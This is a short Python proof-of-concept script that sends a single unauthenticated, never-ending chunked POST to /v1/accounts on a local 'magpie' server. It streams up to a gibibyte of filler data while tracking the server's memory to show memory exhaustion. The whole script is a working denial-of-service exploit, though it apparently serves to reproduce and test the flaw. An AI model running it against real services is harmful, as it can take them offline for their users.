# ONE never-ending chunked POST /v1/accounts (no auth) against ./magpie standalone (default -Xmx1g)
import socket, time, subprocess, sys
pid = sys.argv[1]
def rss(): return subprocess.run(['ps', '-o', 'rss=', '-p', pid], capture_output=True, text=True).stdout.strip() or 'GONE'
s = socket.create_connection(('127.0.0.1', 8081)); s.settimeout(10)
s.sendall(b'POST /v1/accounts HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n')
chunk = b'100000\r\n' + b'a' * 0x100000 + b'\r\n'; n = 0; t0 = time.time()
try:
    while n < 1024:
        s.sendall(chunk); n += 1
        if n % 50 == 0: print(f'{n} MiB sent in {time.time()-t0:.1f}s, server rss {rss()} KB', flush=True)
except OSError as e: print(f'{n} MiB sent, then {e!r}')
time.sleep(2); print('server rss now:', rss())
